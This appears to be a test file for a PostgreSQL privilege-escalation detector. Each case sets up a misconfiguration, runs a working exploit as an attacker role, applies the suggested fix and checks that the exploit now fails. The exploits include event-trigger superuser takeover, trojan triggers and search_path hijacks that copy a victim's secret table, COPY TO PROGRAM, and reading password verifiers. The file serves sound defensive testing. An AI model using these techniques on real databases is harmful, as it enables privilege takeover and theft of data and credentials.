/**
 * Each way to escalate, done for real: the path is found, following it works, the statements that it suggests close it,
 * and then following it fails.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { EscalationPath } from "../../../../src/access/paths/paths.ts";
import { targetName } from "../../../../src/access/paths/paths.ts";
import { readEscalationPaths } from "../../../../src/access/paths/read-paths.ts";
import { hasMajor, type Major, startCluster, type TestCluster } from "../../../support/cluster.ts";
import { connectTo } from "../../../support/connection.ts";

const PASSWORD = "a password for tests";

interface Escalation {
  title: string;
  majors: readonly Major[];
  /** Run by the superuser in a new database; roles "app" (the attacker) and "boss" (the victim) can log in. */
  setup: string;
  /** Rules that the path has, in order. */
  rules: readonly string[];
  target: string;
  /** By the attacker. Throws when the way is closed. */
  exploit: (actors: Actors) => Promise<unknown>;
  /** Takes the effects of a successful exploit back. */
  undo?: string;
  /** What closes it where no statement takes a right away: the owner of something has to change. */
  isClosedBy?: string;
}

interface Actors {
  database: string;
  asApp: (sql: string) => Promise<Record<string, string>[]>;
  asBoss: (sql: string) => Promise<Record<string, string>[]>;
  asSuperuser: (sql: string) => Promise<Record<string, string>[]>;
  cluster: TestCluster;
}

const ALL: readonly Major[] = [14, 15, 16, 17, 18];
const FROM_16: readonly Major[] = [16, 17, 18];
const UP_TO_15: readonly Major[] = [14, 15];

/** A table that only boss may read, and a place where boss's code can leave what it read. */
const SECRET = `
  create schema vault authorization boss;
  set role boss; create table vault.secret (word text); insert into vault.secret values ('sesame'); reset role;
  create schema loot; grant usage, create on schema loot to app; grant usage on schema loot to boss;
  create table loot.taken (word text); grant insert on loot.taken to boss;`;

const TAKE = "insert into loot.taken select word from vault.secret";

async function taken({ asSuperuser }: Actors): Promise<void> {
  const rows = await asSuperuser("select word from loot.taken");
  await asSuperuser("truncate loot.taken");
  if (rows[0]?.word !== "sesame") throw new Error("nothing was taken");
}

/** Follows statements one after the other; a way is only closed when none of them gets through to the end. */
const inTransaction = (sql: string) => `begin; ${sql}; rollback`;

const ESCALATIONS: readonly Escalation[] = [
  {
    title: "[PE-01] SET ROLE: any membership up to 15",
    majors: UP_TO_15,
    setup: "alter role app noinherit; grant boss to app; create table thing (); alter table thing owner to boss",
    rules: ["set-role"],
    target: "boss",
    exploit: ({ asApp }) => asApp(inTransaction("set role boss; drop table thing")),
  },
  {
    title: "[PE-01] SET ROLE: memberships with the SET option from 16",
    majors: FROM_16,
    setup:
      "create role mid; grant mid to app with inherit false, set true; grant boss to mid with inherit false, set true; create table thing (); alter table thing owner to boss",
    rules: ["set-role", "set-role"],
    target: "boss",
    exploit: ({ asApp }) => asApp(inTransaction("set role boss; drop table thing")),
  },
  {
    title: "[PE-02] ADMIN is enough to grant a role to oneself",
    majors: FROM_16,
    setup:
      "grant boss to app with admin true, inherit false, set false; create table thing (); alter table thing owner to boss",
    rules: ["admin-option"],
    target: "boss",
    exploit: ({ asApp }) => asApp(inTransaction("grant boss to app; set role boss; drop table thing")),
  },
  {
    title: "[PE-02] inherited ADMIN is enough too",
    majors: FROM_16,
    setup:
      "create role mid; grant mid to app with inherit true, set false; grant boss to mid with admin true, inherit false, set false; create table thing (); alter table thing owner to boss",
    rules: ["inherit", "admin-option"],
    target: "boss",
    exploit: ({ asApp }) => asApp(inTransaction("grant boss to app; set role boss; drop table thing")),
  },
  {
    title: "[PE-03] what is inherited can be dropped without SET ROLE",
    majors: FROM_16,
    setup: "grant boss to app with inherit true, set false; create table thing (); alter table thing owner to boss",
    rules: ["inherit"],
    target: "boss",
    exploit: ({ asApp }) => asApp(inTransaction("drop table thing")),
  },
  {
    title: "[PE-04] attributes of a group come with SET ROLE",
    majors: UP_TO_15,
    setup: "create role grp createrole; grant grp to app",
    rules: ["set-role", "create-role", "create-role", "predefined-role"],
    target: "server account",
    exploit: ({ asApp }) =>
      asApp(
        inTransaction(
          "set role grp; grant pg_execute_server_program to app; set role app; copy (select 1) to program 'cat >/dev/null'",
        ),
      ),
  },
  {
    title: "[PE-05] CREATEROLE before 16 gives itself the server's account",
    majors: UP_TO_15,
    setup: "alter role app createrole",
    rules: ["create-role", "create-role", "predefined-role"],
    target: "server account",
    exploit: ({ asApp }) =>
      asApp(inTransaction("grant pg_execute_server_program to app; copy (select 1) to program 'cat >/dev/null'")),
  },
  {
    title: "[PE-06] pg_execute_server_program runs programs",
    majors: ALL,
    setup: "grant pg_execute_server_program to app",
    rules: ["set-role", "predefined-role"],
    target: "server account",
    exploit: ({ asApp }) => asApp("copy (select 1) to program 'cat >/dev/null'"),
  },
  {
    title: "[PE-06] a granted file function reads the server's files",
    majors: ALL,
    setup: "grant execute on function pg_catalog.pg_read_file(text) to app",
    rules: ["server-function"],
    target: "server files",
    exploit: ({ asApp }) => asApp("select pg_read_file('PG_VERSION')"),
  },
  {
    title: "[PE-06] SET on session_preload_libraries loads a library",
    majors: [15, 16, 17, 18],
    setup: "grant set on parameter session_preload_libraries to app",
    rules: ["parameter"],
    target: "server account",
    exploit: ({ asApp }) => asApp(inTransaction("alter role app set session_preload_libraries = 'auto_explain'")),
  },
  {
    title: "[PE-06] ALTER SYSTEM on archive_command names a program",
    majors: [15, 16, 17, 18],
    setup: "grant alter system on parameter archive_command to app",
    rules: ["parameter"],
    target: "server account",
    exploit: async ({ asApp }) => asApp("alter system set archive_command = 'true'"),
    undo: "alter system reset archive_command",
  },
  {
    title: "[PE-07] the owner of an event trigger's function becomes superuser at the next DDL",
    majors: ALL,
    setup: `create function public.watch() returns event_trigger language plpgsql as 'begin end';
      create event trigger watcher on ddl_command_end execute function public.watch();
      grant create on schema public to app; alter function public.watch() owner to app`,
    rules: ["event-trigger", "superuser"],
    target: "superuser",
    exploit: async ({ asApp, asSuperuser }) => {
      const body = `begin if current_user = ''postgres'' then execute ''alter role app superuser''; end if; end`;
      await asApp(`create or replace function public.watch() returns event_trigger language plpgsql as '${body}'`);
      await asSuperuser("create table public.somebody_works_here ()");
      const [row] = await asSuperuser("select rolsuper::text as super from pg_roles where rolname = 'app'");
      if (row?.super !== "true") throw new Error("still no superuser");
    },
    undo: "create or replace function public.watch() returns event_trigger language plpgsql as 'begin end'; alter role app nosuperuser; drop table public.somebody_works_here; revoke create on schema public from app",
  },
  {
    title: "[PE-08] the owner of a trigger's function acts as who writes",
    majors: ALL,
    setup: `${SECRET}
      create table public.orders (id int); alter table public.orders owner to boss;
      create function loot.stamp() returns trigger language plpgsql as 'begin return new; end';
      alter function loot.stamp() owner to app;
      create trigger stamp before insert on public.orders for each row execute function loot.stamp()`,
    rules: ["trojan"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create or replace function loot.stamp() returns trigger language plpgsql as 'begin ${TAKE}; return new; end'`,
      );
      await actors.asBoss("insert into public.orders values (1)");
      await taken(actors);
    },
    undo: "create or replace function loot.stamp() returns trigger language plpgsql as 'begin return new; end'",
  },
  {
    title: "[PE-08] TRIGGER on a table is enough",
    majors: ALL,
    setup: `${SECRET} grant usage on schema public to app;
      create table public.orders (id int); alter table public.orders owner to boss; grant trigger on public.orders to app`,
    rules: ["trojan", "trojan"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create function loot.mine() returns trigger language plpgsql as 'begin ${TAKE}; return new; end'; ` +
          "create trigger mine before insert on public.orders for each row execute function loot.mine()",
      );
      await actors.asBoss("insert into public.orders values (1)");
      await taken(actors);
    },
    undo: "drop function loot.mine() cascade",
  },
  {
    title: "[A-07] schema-owner: the owner of a schema replaces a table of somebody else by a view",
    majors: ALL,
    setup: `${SECRET}
      create schema shop authorization app; grant usage on schema shop to boss;
      create table shop.orders (id int); alter table shop.orders owner to boss`,
    rules: ["schema-owner", "schema-owner"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(`drop table shop.orders;
        create function shop.take() returns int language plpgsql as 'begin ${TAKE}; return 1; end';
        create view shop.orders as select shop.take() as id; grant select on shop.orders to boss`);
      await actors.asBoss("select * from shop.orders");
      await taken(actors);
    },
    undo: "drop view shop.orders; drop function shop.take(); create table shop.orders (id int); alter table shop.orders owner to boss",
  },
  {
    title: "[PE-08] the owner of a partition acts as who writes through its parent",
    majors: ALL,
    setup: `${SECRET} revoke create on schema public from public; create table public.orders (id int) partition by list (id); alter table public.orders owner to boss;
      grant usage on schema public to app; create schema app_own authorization app; grant usage on schema app_own to boss;
      create table public.part partition of public.orders default; alter table public.part owner to app`,
    rules: ["trojan", "trojan"],
    target: "boss",
    isClosedBy: "alter table public.part owner to boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create or replace function app_own.mine() returns trigger language plpgsql as 'begin ${TAKE}; return new; end'; ` +
          "drop trigger if exists mine on public.part; create trigger mine before insert on public.part for each row execute function app_own.mine()",
      );
      await actors.asBoss("insert into public.orders values (1)");
      await taken(actors);
    },
    undo: "drop function app_own.mine() cascade",
  },
  {
    title: "[PE-08] REFERENCES is enough up to 17, by what a foreign key cascades to",
    majors: [14, 15, 16, 17],
    setup: `${SECRET} create table public.orders (id int primary key); alter table public.orders owner to boss;
      grant usage on schema public to app; grant references on public.orders to app; create schema app_own authorization app; grant usage on schema app_own to boss`,
    rules: ["references", "references"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create function app_own.mine() returns trigger language plpgsql as 'begin ${TAKE}; return null; end';
         create table app_own.lines (id int references public.orders on delete cascade);
         create constraint trigger late after delete on app_own.lines deferrable initially deferred for each row execute function app_own.mine()`,
      );
      await actors.asBoss("insert into public.orders values (1)");
      await actors.asApp("insert into app_own.lines values (1)");
      await actors.asBoss("delete from public.orders");
      await taken(actors);
    },
    undo: "drop table app_own.lines; drop function app_own.mine(); truncate public.orders",
  },
  {
    title: "[PE-08] the owner of a routine acts as whom it was granted to",
    majors: ALL,
    setup: `${SECRET} create schema app_own authorization app; grant usage on schema app_own to boss;
      set role app; create function app_own.total() returns int language plpgsql as 'begin return 1; end';
      revoke execute on function app_own.total() from public; grant execute on function app_own.total() to boss; reset role`,
    rules: ["granted-routine"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create or replace function app_own.total() returns int language plpgsql as 'begin ${TAKE}; return 1; end'`,
      );
      await actors.asBoss("select app_own.total()");
      await taken(actors);
    },
  },
  {
    title: "[PE-09] CREATE on a schema of the search_path catches names",
    majors: ALL,
    setup: `${SECRET} revoke create on schema public from public; grant create, usage on schema public to app; alter role boss set search_path = public`,
    rules: ["search-path", "search-path", "search-path"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create function public.lower(varchar) returns text language plpgsql as 'begin ${TAKE}; return null; end'; ` +
          "grant execute on function public.lower(varchar) to boss",
      );
      await actors.asBoss("select lower('X'::varchar)");
      await taken(actors);
    },
    undo: "drop function public.lower(varchar)",
  },
  {
    title: '[PE-09] CREATE on the database puts a schema first through "$user"',
    majors: ALL,
    setup: `${SECRET} do $$ begin execute format('grant create on database %I to app', current_database()); end $$; revoke create on schema public from public`,
    rules: ["search-path", "search-path", "search-path"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create schema boss; grant usage on schema boss to boss; create function boss.lower(varchar) returns text language plpgsql as 'begin ${TAKE}; return null; end'`,
      );
      await actors.asBoss("select lower('X'::varchar)");
      await taken(actors);
    },
    undo: "drop schema boss cascade",
  },
  {
    title: "[PE-09] the database's owner sets the search_path of everybody",
    majors: ALL,
    setup: `${SECRET} do $$ begin execute format('alter database %I owner to app', current_database()); end $$; grant usage on schema loot to public; revoke create on schema public from public; create schema boss authorization boss`,
    rules: ["search-path", "search-path", "search-path"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `alter database ${actors.database} set search_path = loot; ` +
          `create function loot.lower(varchar) returns text language plpgsql as 'begin ${TAKE}; return null; end'`,
      );
      await actors.asBoss("select lower('X'::varchar)");
      await taken(actors);
    },
    undo: "drop function loot.lower(varchar); do $$ begin execute format('alter database %I reset search_path', current_database()); end $$",
  },
  {
    title: "[PE-10] a SECURITY DEFINER function that takes the caller's search_path",
    majors: ALL,
    setup: `${SECRET} revoke create on schema public from public; set role boss; create function vault.report() returns text language plpgsql security definer as 'begin return lower(''X''::varchar); end';
      grant usage on schema vault to app; reset role`,
    rules: ["security-definer"],
    target: "boss",
    exploit: async (actors) => {
      await actors.asApp(
        `create or replace function loot.lower(varchar) returns text language plpgsql as 'begin ${TAKE}; return null; end'; ` +
          "set search_path = loot, pg_catalog; select vault.report()",
      );
      await taken(actors);
    },
  },
  {
    title: "[PE-11] pg_read_all_data reads verifiers",
    majors: ALL,
    setup: "grant pg_read_all_data to app",
    rules: ["set-role", "predefined-role"],
    target: "secrets",
    exploit: ({ asApp }) => asApp("select rolpassword from pg_catalog.pg_authid"),
  },
  {
    title: "[PE-11] a user mapping shows its password to its own role",
    majors: ALL,
    setup: `create foreign data wrapper plain; create server elsewhere foreign data wrapper plain;
      create user mapping for app server elsewhere options (user 'app', password 'remote'); grant usage on foreign server elsewhere to app`,
    rules: ["foreign-server"],
    target: "secrets",
    exploit: async ({ asApp }) => {
      const [row] = await asApp("select umoptions::text as options from pg_catalog.pg_user_mappings");
      if (!row?.options?.includes("remote")) throw new Error("the options are hidden");
    },
  },
  {
    title: "[PE-12] REPLICATION copies the cluster",
    majors: ALL,
    setup: "alter role app replication",
    rules: ["replication"],
    target: "replication",
    exploit: async ({ cluster }) => {
      const target = `host=127.0.0.1 port=${cluster.port} user=app password='${PASSWORD}' replication=true`;
      const { status, stderr } = await cluster.psql(["-d", target, "-c", "IDENTIFY_SYSTEM"]);
      if (status !== 0) throw new Error(stderr);
    },
  },
];

describe.each(ALL.filter(hasMajor))("[ACC-08] on PostgreSQL %i", (major) => {
  let cluster: TestCluster;
  beforeAll(async () => {
    cluster = await startCluster({ major });
  });
  afterAll(async () => {
    await cluster.stop();
  });

  const cases = ESCALATIONS.filter(({ majors }) => majors.includes(major));
  it.each(cases.map((escalation) => [escalation.title, escalation] as const))("%s", async (_, escalation) => {
    const actors = await prepare(cluster, escalation.setup);
    try {
      const path = await find(actors, escalation);
      expect(path?.steps.map(({ rule }) => rule)).toEqual(escalation.rules);
      await escalation.exploit(actors);
      if (escalation.undo) await actors.asSuperuser(escalation.undo);
      const closing = escalation.isClosedBy === undefined ? path?.cut : [escalation.isClosedBy];
      for (const statement of closing ?? []) await actors.asSuperuser(statement);
      expect(closing?.length).toBeGreaterThan(0);
      if (escalation.isClosedBy !== undefined) expect(path?.cut).toBeUndefined();
      await expect(escalation.exploit(actors)).rejects.toThrow();
      expect(await find(actors, escalation)).toBeUndefined();
    } finally {
      await cleanUp(actors);
    }
  });
});

it("[PE-13] a trust line lets anybody in, until it says scram-sha-256", async () => {
  await using cluster = await startCluster({
    hba: ["local all all scram-sha-256", "host all app 127.0.0.1/32 trust", "host all all 127.0.0.1/32 scram-sha-256"],
  });
  await cluster.sql("create role app login; create table public.mine (); alter table public.mine owner to app");
  const search = async () => {
    await using session = await connectTo(cluster);
    const { paths } = await readEscalationPaths(session, { owners: true, cuts: true });
    return paths.find(({ from, target }) => from === undefined && targetName(target) === "app");
  };
  const path = await search();
  expect(path?.steps.map(({ rule }) => rule)).toEqual(["network", "network"]);
  expect(await cluster.sql("select 1 as one", { user: "app", password: "any" })).toEqual([{ one: 1 }]);

  const { readFile, writeFile } = await import("node:fs/promises");
  const file = `${cluster.dataDir}/pg_hba.conf`;
  await writeFile(file, (await readFile(file, "utf8")).replace("trust", "scram-sha-256"));
  for (const statement of path?.cut ?? []) await cluster.sql(statement);
  await expect
    .poll(() =>
      cluster.sql("select 1", { user: "app", password: "any" }).then(
        () => "in",
        () => "out",
      ),
    )
    .toBe("out");
  expect(await search()).toBeUndefined();
});

async function prepare(cluster: TestCluster, setup: string): Promise<Actors> {
  await cluster.sql(`create role app login password '${PASSWORD}'; create role boss login password '${PASSWORD}'`);
  const database = await cluster.createDatabase();
  const as = (user: string) => (text: string) => cluster.sql(text, { user, password: PASSWORD, database });
  const asSuperuser = (text: string) => cluster.sql(text, { database });
  const actors = { database, cluster, asApp: as("app"), asBoss: as("boss"), asSuperuser };
  await asSuperuser(setup);
  return actors;
}

async function find({ cluster, database }: Actors, wanted: Escalation): Promise<EscalationPath | undefined> {
  await using session = await connectTo(cluster, { database });
  const { paths } = await readEscalationPaths(session, { role: "app", owners: true, cuts: true });
  return paths.find(({ target }) => targetName(target) === wanted.target);
}

async function cleanUp({ cluster, database }: Actors): Promise<void> {
  await cluster.sql(`drop database ${database} with (force)`).catch(() => undefined);
  const [row] = await cluster.sql(
    `select pg_catalog.string_agg(format('drop owned by %1$I cascade; drop role %1$I', rolname), '; ') as statements
       from pg_catalog.pg_roles where rolname in ('app', 'boss', 'mid', 'grp')`,
  );
  await cluster.sql(row.statements);
}
